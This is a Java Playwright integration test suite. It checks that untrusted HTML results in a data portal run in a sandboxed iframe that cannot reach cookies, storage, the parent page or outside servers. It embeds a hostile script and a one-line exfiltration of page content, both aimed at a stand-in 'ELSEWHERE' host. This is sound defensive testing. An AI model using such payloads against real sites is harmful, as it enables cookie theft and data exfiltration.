package io.lakegate.system;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** A result's HTML comes from strangers: what it can do when a person has allowed its scripts. */
class ResultFrameIT {
  private static final String[] AS_FRAME = {
    "Sec-Fetch-Dest", "iframe", "Sec-Fetch-Site", "same-origin"
  };

  private final TestPortal portal = TestPortal.get();
  private final Organisation made = Organisation.get();
  private final PageClient pages = new PageClient(portal.uri());
  private final List<String> reached = new CopyOnWriteArrayList<>();
  private HttpServer elsewhere;

  @BeforeEach
  void listen() throws IOException {
    elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    elsewhere.createContext(
        "/",
        exchange -> {
          reached.add(exchange.getRequestURI().toString());
          exchange.getResponseHeaders().add("Access-Control-Allow-Origin", "*");
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    elsewhere.start();
  }

  @AfterEach
  void close() {
    made.plantHtml(made.html, Organisation.CHART);
    elsewhere.stop(0);
  }

  private String address() {
    return "/demo/history/" + made.html;
  }

  /** The statement's page, with these scripts allowed. */
  private FrameLocator allowed(Visit visit, String html) {
    made.plantHtml(
        made.html,
        html.replace("ELSEWHERE", "http://127.0.0.1:" + elsewhere.getAddress().getPort()));
    Page page = visit.page();
    page.navigate(address());
    page.getByRole(
            AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Allow scripts for this result"))
        .click();
    page.getByText("Its scripts run, cut off").waitFor();
    return page.frameLocator("iframe");
  }

  private Visit visit() {
    return Visit.signedIn(portal.uri(), "demo", "viewer");
  }

  @Test
  void runs_no_script_until_the_person_allows_it_and_then_in_the_frame_alone() {
    made.plantHtml(made.html, Organisation.CHART);
    try (Visit visit = visit()) {
      Page page = visit.page();
      page.navigate(address());
      assertThat(page.frameLocator("iframe").locator("#north").innerText()).isEqualTo("North 1204");

      FrameLocator frame = allowed(visit, Organisation.CHART);

      frame.getByText("(drawn by a script)").waitFor();
      assertThat(visit.complaints()).isEmpty();
    }
  }

  @Test
  @SuppressWarnings("unchecked")
  void its_scripts_reach_neither_the_portal_nor_the_person_nor_any_server() {
    try (Visit visit = visit()) {
      Locator done = allowed(visit, HOSTILE).getByText("All tried");

      done.waitFor();

      Map<String, String> seen = (Map<String, String>) done.evaluate("() => window.seen");
      assertThat(seen)
          .containsEntry("origin", "null")
          .containsEntry("cookie", "SecurityError")
          .containsEntry("parent", "SecurityError")
          .containsEntry("storage", "SecurityError")
          .containsEntry("popup", "null")
          .containsEntry("referrer", "");
      assertThat(
              List.of(
                  "fetchPortal", "fetchElsewhere", "image", "style", "script", "worker", "socket"))
          .allSatisfy(attempt -> assertThat(seen.get(attempt)).as(attempt).isEqualTo("refused"));
      assertThat(visit.page().url()).endsWith(address());
      assertThat(visit.context().pages()).hasSize(1);
    }
    assertThat(reached).isEmpty();
  }

  @Test
  void a_frame_that_leaves_arrives_nowhere() {
    try (Visit visit = visit()) {
      allowed(visit, "<p>here</p><script>location = 'ELSEWHERE/?' + document.body</script>");

      awaitRefusal(visit.page());
      assertThat(visit.page().url()).endsWith(address());
    }
    assertThat(reached).isEmpty();
  }

  /** The browser's own page, in place of one it does not let into the frame. */
  private static void awaitRefusal(Page page) {
    page.waitForCondition(
        () -> page.frames().stream().anyMatch(one -> one.url().startsWith("chrome-error:")));
  }

  @Test
  void a_frame_that_turns_to_the_portal_is_nobody_there() {
    try (Visit visit = visit()) {
      allowed(visit, "<script>location = '/demo/history/" + made.table + "'</script>");

      awaitRefusal(visit.page());
    }
  }

  @Test
  void opened_by_itself_it_does_not_exist() {
    made.plantHtml(made.html, "<script>document.title = 'ran'</script>");
    try (Visit visit = visit()) {
      int status = visit.page().navigate(address() + "/output?format=html").status();

      assertThat(status).isEqualTo(404);
      assertThat(visit.page().title()).doesNotContain("ran");
    }
  }

  private String cookie(String tenant, String userName) {
    return pages
        .signIn(
            "/" + tenant + "/sign-in",
            userName,
            LakegateServer.PASSWORD,
            "Origin",
            portal.uri().toString())
        .cookie();
  }

  private PageClient.Page ask(String tenant, String cookie, String format, String... headers) {
    String[] all = new String[headers.length + 2];
    all[0] = "Cookie";
    all[1] = cookie;
    System.arraycopy(headers, 0, all, 2, headers.length);
    return pages.get("/" + tenant + "/history/" + made.html + "/output?format=" + format, all);
  }

  @Test
  void its_answer_carries_its_own_sandbox_wherever_it_is_opened() {
    PageClient.Page answer = ask("demo", cookie("demo", "viewer"), "html", AS_FRAME);

    assertThat(answer.status()).isEqualTo(200);
    assertThat(answer.headers().allValues("Content-Security-Policy"))
        .singleElement()
        .asString()
        .startsWith("sandbox allow-scripts; default-src 'none';")
        .contains("frame-ancestors 'self'")
        .doesNotContain("allow-same-origin", "allow-top", "allow-popups", "allow-forms", "http");
    assertThat(answer.header("X-Frame-Options")).isEqualTo("SAMEORIGIN");
    assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
    assertThat(answer.header("Content-Type")).isEqualToIgnoringCase("text/html;charset=UTF-8");
    assertThat(answer.header("Cache-Control")).isEqualTo("no-store");
  }

  @Test
  void only_a_frame_of_our_own_page_gets_it() {
    String cookie = cookie("demo", "viewer");

    assertThat(
            List.of(
                ask("demo", cookie, "html").status(),
                ask("demo", cookie, "html", "Sec-Fetch-Dest", "iframe").status(),
                ask("demo", cookie, "html", "Sec-Fetch-Dest", "document", "Sec-Fetch-Site", "none")
                    .status(),
                ask(
                        "demo",
                        cookie,
                        "html",
                        "Sec-Fetch-Dest",
                        "object",
                        "Sec-Fetch-Site",
                        "same-origin")
                    .status(),
                ask(
                        "demo",
                        cookie,
                        "html",
                        "Sec-Fetch-Dest",
                        "iframe",
                        "Sec-Fetch-Site",
                        "cross-site")
                    .status(),
                ask(
                        "demo",
                        cookie,
                        "html",
                        "Sec-Fetch-Dest",
                        "iframe",
                        "Sec-Fetch-Site",
                        "same-site")
                    .status()))
        .containsOnly(404);
  }

  @Test
  void a_table_sorts_large_and_exact_numbers_by_value_and_its_file_follows_that_order() {
    made.plantOutput(
        made.html,
        """
        {"status":"ok","data":{"application/json":{"schema":{"fields":[
          {"name":"big","type":"long"},{"name":"exact","type":"decimal(38,20)"},
          {"name":"name","type":"string"}]},"data":[
          [9007199254740993,1.00000000000000000002,"b10"],
          [-9223372036854775808,1E+2,"Ä9"],
          [9007199254740992,1.00000000000000000001,"b9"],
          [-9223372036854775807,-0.5,"=1+1"],
          [null,null,null]]}}}\
        """);
    try (Visit visit = visit()) {
      visit.page().navigate(address());

      assertThat(sortedBy(visit, "big", 0))
          .containsExactly(
              "-9223372036854775808",
              "-9223372036854775807",
              "9007199254740992",
              "9007199254740993",
              "null");
      assertThat(sortedBy(visit, "exact", 0))
          .startsWith("-9223372036854775807", "9007199254740992", "9007199254740993")
          .endsWith("null");
      assertThat(sortedBy(visit, "name", 2)).containsExactly("=1+1", "Ä9", "b9", "b10", "null");
      assertThat(sortedBy(visit, "name", 2)).startsWith("b10", "b9").endsWith("null");
      String csv = visit.page().locator("a[data-csv]").last().getAttribute("href");
      assertThat(csv).endsWith("bom=true&order=-2");
      String file = ask("demo", cookie("demo", "viewer"), "csv&bom=true&order=-2").body();
      assertThat(file)
          .isEqualTo(
              "\uFEFFbig,exact,name\r\n"
                  + "9007199254740993,1.00000000000000000002,b10\r\n"
                  + "9007199254740992,1.00000000000000000001,b9\r\n"
                  + "-9223372036854775808,100.00000000000000000000,Ä9\r\n"
                  + "-9223372036854775807,-0.50000000000000000000,'=1+1\r\n,,\r\n");
      assertThat(visit.complaints()).isEmpty();
    }
  }

  private static List<String> sortedBy(Visit visit, String column, int shown) {
    Locator table = visit.page().getByRole(AriaRole.TABLE);
    table
        .getByRole(AriaRole.COLUMNHEADER)
        .getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName(column))
        .click();
    return table.locator("tbody td:nth-child(" + (shown + 1) + ")").allInnerTexts();
  }

  @Test
  void a_file_is_saved_not_shown() {
    PageClient.Page answer = ask("demo", cookie("demo", "viewer"), "json");

    assertThat(answer.header("Content-Disposition")).startsWith("attachment; filename=statement-");
    assertThat(answer.header("Content-Security-Policy")).startsWith("sandbox;");
    assertThat(answer.header("Content-Type")).startsWith("application/json");
    assertThat(ask("demo", cookie("demo", "viewer"), "csv").status()).isEqualTo(404);
  }

  @Test
  void nobody_gets_it_and_no_other_tenant() {
    assertThat(ask("demo", "none=none", "html", AS_FRAME).leadsTo()).startsWith("/demo/sign-in");
    for (String role : List.of("viewer", "editor", "admin")) {
      String theirs = cookie("globex", role);
      assertThat(ask("globex", theirs, "html", AS_FRAME).status()).isEqualTo(404);
      assertThat(ask("globex", theirs, "json").status()).isEqualTo(404);
      assertThat(ask("demo", theirs, "html", AS_FRAME).leadsTo()).startsWith("/demo/sign-in");
    }
  }

  private static final String HOSTILE =
      """
      <p>Quarterly figures</p>
      <script>
        const seen = (window.seen = {});
        const attempt = (name, act) => {
          try {
            seen[name] = String(act());
          } catch (problem) {
            seen[name] = problem.name;
          }
        };
        const asked = (name, act) =>
          new Promise((done) => {
            const end = (answer) => () => {
              seen[name] ??= answer;
              done();
            };
            setTimeout(end("no answer"), 4000);
            try {
              act(end("reached"), end("refused"));
            } catch {
              end("refused")();
            }
          });
        const element = (name, fill) =>
          asked(fill.name, (reached, refused) => {
            const made = document.createElement(name);
            made.onload = reached;
            made.onerror = refused;
            fill(made);
            document.head.append(made);
          });
        attempt("origin", () => self.origin);
        attempt("cookie", () => document.cookie);
        attempt("parent", () => parent.document.title);
        attempt("storage", () => localStorage.length);
        attempt("referrer", () => document.referrer);
        attempt("popup", () => window.open("ELSEWHERE/popup"));
        attempt("top", () => { top.location = "ELSEWHERE/top"; });
        attempt("beacon", () => navigator.sendBeacon("ELSEWHERE/beacon", "x"));
        attempt("form", () => {
          const form = document.createElement("form");
          form.action = "ELSEWHERE/form";
          document.body.append(form);
          form.submit();
        });
        attempt("prefetch", () => {
          const link = document.createElement("link");
          link.rel = "prefetch";
          link.href = "ELSEWHERE/prefetch";
          document.head.append(link);
        });
        Promise.allSettled([
          asked("fetchPortal", (reached, refused) =>
            fetch("/demo/me", { credentials: "include" }).then(reached, refused)),
          asked("fetchElsewhere", (reached, refused) =>
            fetch("ELSEWHERE/fetch", { mode: "no-cors" }).then(reached, refused)),
          asked("socket", (reached, refused) => {
            const events = new EventSource("ELSEWHERE/events");
            events.onopen = reached;
            events.onerror = refused;
          }),
          asked("worker", (reached, refused) => {
            const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
            worker.onmessage = reached;
            worker.onerror = refused;
          }),
          element("img", function image(made) { made.src = "ELSEWHERE/image"; }),
          element("script", function script(made) { made.src = "ELSEWHERE/script"; }),
          element("link", function style(made) {
            made.rel = "stylesheet";
            made.href = "ELSEWHERE/style";
          }),
        ]).then(() => document.body.append("All tried"));
      </script>
      """;
}
